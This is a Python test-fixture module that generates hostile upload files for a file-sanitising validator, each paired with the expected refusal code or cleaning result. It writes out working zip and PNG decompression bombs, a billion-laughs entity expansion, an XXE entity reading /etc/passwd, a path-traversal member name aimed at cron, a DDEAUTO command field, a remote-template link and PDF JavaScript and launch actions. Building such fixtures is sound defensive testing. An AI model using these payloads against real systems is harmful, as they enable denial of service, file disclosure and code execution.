"""Hostile files, made here: each with what must become of it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Final

import openpyxl
import pikepdf
from PIL import Image

TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="{}"/></Types>'
)
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
LINK = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
    'Target="{}" TargetMode="External"/></Relationships>'
)
BODY = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9))
    + "]><worksheet>&j;</worksheet>"
)


def packed(parts: dict[str, bytes | str], **changes: bytes | str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as container:
        for name, content in (parts | changes).items():
            container.writestr(name, content)
    return out.getvalue()


def word(extra: dict[str, bytes | str] | None = None, types: str = WORD) -> bytes:
    parts: dict[str, bytes | str] = {"[Content_Types].xml": TYPES.format(types), "word/document.xml": BODY}
    return packed(parts | (extra or {}))


def excel() -> dict[str, bytes | str]:
    out = io.BytesIO()
    book = openpyxl.Workbook()
    book.worksheets[0].append(["名称", "数量"])
    book.save(out)
    with zipfile.ZipFile(out) as container:
        return {name: container.read(name) for name in container.namelist()}


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1, **how: object) -> bytes:
    document = pikepdf.new()
    for _page in range(pages):
        document.add_blank_page(page_size=(200, 200))
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **how)  # type: ignore[arg-type]  # pikepdf's own options
    return out.getvalue()


def scripted(document: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('MARKER')"))
    document.Root.OpenAction = document.make_indirect(script)
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("x"), script]))
    document.docinfo["/Author"] = "MARKER"


def launching(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("MARKER.exe"))
    annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    document.pages[0].Annots = document.make_indirect(pikepdf.Array([annotation]))


def attaching(document: pikepdf.Pdf) -> None:
    document.attachments["MARKER.exe"] = pikepdf.AttachedFileSpec(document, b"MZ MARKER")


def form_of_scripts(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=document.make_stream(b"<xdp>MARKER</xdp>"))


def heavy(document: pikepdf.Pdf) -> None:
    packer = zlib.compressobj(9)
    zeros = bytes(1 << 24)
    content = b"".join(packer.compress(zeros) for _ in range(64)) + packer.flush()
    stream = pikepdf.Stream(document, content)
    stream.Filter = pikepdf.Name.FlateDecode
    document.pages[0].Contents = document.make_indirect(stream)


def heavy_object_stream() -> bytes:
    """A PDF whose own object table unpacks to 512 MiB: nobody can open it without unpacking."""
    packer = zlib.compressobj(9)
    content = b"".join(packer.compress(bytes(1 << 24)) for _ in range(32)) + packer.flush()
    table = (
        b"1 0 obj<</Type/XRef/Size 3/W[1 2 1]/Index[0 3]/Root 2 0 R/Filter/FlateDecode/Length %d>>stream\n"
        % len(content)
        + content
        + b"\nendstream endobj\n"
    )
    start = b"%PDF-1.7\n"
    return start + table + b"startxref\n%d\n%%%%EOF" % len(start)


def picture(format: str = "PNG", size: tuple[int, int] = (40, 30), tail: bytes = b"", **how: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, format, **how)
    return out.getvalue() + tail


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack("!I", len(content)) + name + content + struct.pack("!I", zlib.crc32(name + content))


def huge_png(width: int, height: int) -> bytes:
    """A small file of a picture of `width` × `height`, its pixels really there."""
    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(bytes((width + 7) // 8 + 1)) for _ in range(height)) + packer.flush()
    head = struct.pack("!IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def png_with_text_bomb() -> bytes:
    plain = picture()
    bomb = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(300 << 20), 9))
    return plain[:33] + bomb + plain[33:]


def with_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = "MARKER"
    return picture("JPEG", exif=exif)


def overlapping() -> bytes:
    """Members that all point to one packed content."""
    content = packed({"[Content_Types].xml": TYPES, "word/document.xml": BODY, "a.xml": bytes(900_000)})
    with zipfile.ZipFile(io.BytesIO(content)) as container:
        start, last = container.start_dir, container.infolist()[-1]
    directory = content[start : content.rindex(b"PK\x05\x06")]
    entry = directory[directory.rindex(b"PK\x01\x02") :]
    copies = b"".join(entry.replace(b"a.xml", b"%05d" % n) for n in range(150))
    whole = directory + copies
    count = 3 + 150
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(whole), start, 0)
    assert last.filename == "a.xml"
    return content[:start] + whole + end


def lying() -> bytes:
    """A member whose directory entry admits one byte of many."""
    content = bytearray(word({"word/media/a.xml": bytes(5_000_000)}))
    for mark, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        place = content.rindex(mark)
        content[place + offset : place + offset + 4] = struct.pack("<I", 1)
    return bytes(content)


def encrypted_flag() -> bytes:
    content = bytearray(word())
    place = content.index(b"PK\x01\x02")
    content[place + 8] |= 1
    return bytes(content)


def many_members() -> bytes:
    return word({f"word/{n}.xml": b"" for n in range(1500)})


def repeated() -> bytes:
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as container:
        container.writestr("WORD/document.xml", "<html/>")
    return out.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
ZEROS = bytes(190 << 20)

# Name of the upload, content, and the code of the refusal.
REFUSED: Final[dict[str, tuple[str, Callable[[], bytes], str]]] = {
    "empty": ("a.pdf", lambda: b"", "file.empty"),
    "svg": ("a.svg", lambda: SVG, "file.markup"),
    "svg named png": ("a.png", lambda: SVG, "file.markup"),
    "html named pdf": ("a.pdf", lambda: b"\xef\xbb\xbf  <!DOCTYPE html><script>", "file.markup"),
    "gif with script": ("a.png", lambda: b"GIF89a/*" + bytes(30) + b"*/=1;alert(1)", "file.unknown"),
    "late pdf": ("a.pdf", lambda: b"MZ" + bytes(300) + pdf(), "file.unknown"),
    "program named pdf": ("a.pdf", lambda: b"MZ\x90\x00" + bytes(500), "file.unknown"),
    "png named pdf": ("a.pdf", picture, "file.mismatch"),
    "pdf.exe": ("report.pdf.exe", pdf, "file.mismatch"),
    "old excel": ("a.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "file.old_office"),
    "plain zip": ("a.zip", lambda: packed({"x.txt": b"x"}), "file.zip"),
    "zip of zips": ("a.docx", lambda: packed({"a.zip": packed({"b.zip": ZEROS[: 1 << 20]})}), "file.zip"),
    "zip bomb": ("a.docx", lambda: word({"word/a.xml": ZEROS}), "zip.ratio"),
    "spread bomb": ("a.docx", lambda: word({f"word/{n}.xml": ZEROS[: 1 << 20] for n in range(240)}), "zip.unpacked"),
    "overlapping members": ("a.docx", overlapping, "zip.overlap"),
    "lying directory": ("a.docx", lying, "zip.damaged"),
    "too many members": ("a.docx", many_members, "zip.members"),
    "encrypted member": ("a.docx", encrypted_flag, "zip.encrypted"),
    "path out of the zip": ("a.docx", lambda: word({"../../etc/cron.d/x": b"x"}), "zip.name"),
    "member twice": ("a.docx", repeated, "zip.name"),
    "macro": ("a.docx", lambda: word({"word/vbaProject.bin": b"x"}), "office.macro"),
    "macro by type": (
        "a.docx",
        lambda: word(types="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "office.macro",
    ),
    "embedded program": ("a.docx", lambda: word({"word/embeddings/oleObject1.bin": b"MZ"}), "office.macro"),
    "template from afar": (
        "a.docx",
        lambda: word({"word/_rels/settings.xml.rels": LINK.format("attachedTemplate", "http://203.0.113.9/t.dotm")}),
        "office.external",
    ),
    "field that starts a program": (
        "a.docx",
        lambda: word(
            {"word/document2.xml": BODY.replace("<w:body/>", '<w:instrText>DDEAUTO c:\\\\cmd "/k"</w:instrText>')}
        ),
        "office.dde",
    ),
    "billion laughs": ("a.xlsx", lambda: packed(excel(), **{"xl/worksheets/sheet1.xml": LAUGHS}), "office.entities"),
    "outer entity": (
        "a.xlsx",
        lambda: packed(
            excel(),
            **{"xl/workbook.xml": '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><workbook>&x;</workbook>'},
        ),
        "office.entities",
    ),
    "entity in utf-16": (
        "a.docx",
        lambda: word({"word/x.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a []><a/>'.encode("utf-16")}),
        "office.entities",
    ),
    "locked pdf": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="u", owner="o")), "pdf.encrypted"),
    "pdf of too many pages": ("a.pdf", lambda: pdf(pages=301), "pdf.pages"),
    "broken pdf": ("a.pdf", lambda: b"%PDF-1.7\n" + bytes(2000), "pdf.damaged"),
    "pdf whose table is a bomb": ("a.pdf", heavy_object_stream, "pdf.damaged"),
    "picture of 50 megapixels": ("a.png", lambda: huge_png(10_000, 5_000), "picture.pixels"),
    "picture of 10 gigapixels": (
        "a.png",
        lambda: huge_png(100_000, 10)[:16] + struct.pack("!II", 10**5, 10**5),
        "picture.damaged",
    ),
    "text bomb in a picture": ("a.png", png_with_text_bomb, "picture.damaged"),
    "cut picture": ("a.jpg", lambda: picture("JPEG", (900, 900))[:3000], "picture.damaged"),
}

# Taken, and made harmless: what was hidden in it is gone from what is kept.
CLEANED: Final[dict[str, tuple[str, Callable[[], bytes]]]] = {
    "script in a pdf": ("a.pdf", lambda: pdf(scripted)),
    "launch in a pdf": ("a.pdf", lambda: pdf(launching)),
    "program in a pdf": ("a.pdf", lambda: pdf(attaching)),
    "xfa form": ("a.pdf", lambda: pdf(form_of_scripts)),
    "pdf with a page after it": ("a.pdf", lambda: pdf() + b"\n<script>MARKER</script>"),
    "gigabyte in a pdf": ("a.pdf", lambda: pdf(heavy, stream_decode_level=pikepdf.StreamDecodeLevel.none)),
    "place of the camera": ("a.jpg", with_exif),
    "script behind a picture": ("a.png", lambda: picture(tail=b"<script>MARKER</script>")),
    "zip behind a picture": ("a.jpeg", lambda: picture("JPEG", tail=packed({"MARKER": b"x"}))),
}
